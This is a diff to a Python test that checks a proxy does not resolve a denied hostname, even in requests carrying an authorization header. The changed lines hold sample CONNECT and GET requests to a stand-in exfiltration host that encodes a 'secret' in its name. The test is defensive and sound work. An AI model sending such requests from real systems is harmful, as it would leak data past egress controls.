@@ -16,6 +16,7 @@ import dns.rrset
 import dns.update
 import pytest
 from attacks import datagrams, requests, streams
+from attacks.base import AUTHORIZED
 from kit import zone
 
 if TYPE_CHECKING:
@@ -188,8 +189,8 @@ def test_a_denied_name_in_a_request_is_resolved_by_nobody(inside: Agent, witness
     inside.call(
         requests.to_proxy,
         [
-            ["CONNECT s3cret.exfil.example.net:443 HTTP/1.1\r\nHost: x\r\n\r\n"],
-            [f"GET http://s3cret.exfil.example.net/ HTTP/1.1\r\nHost: x\r\n{close}"],
+            [f"CONNECT s3cret.exfil.example.net:443 HTTP/1.1\r\nHost: x\r\n{AUTHORIZED}\r\n"],
+            [f"GET http://s3cret.exfil.example.net/ HTTP/1.1\r\nHost: x\r\n{AUTHORIZED}{close}"],
         ],
     )
     inside.call(
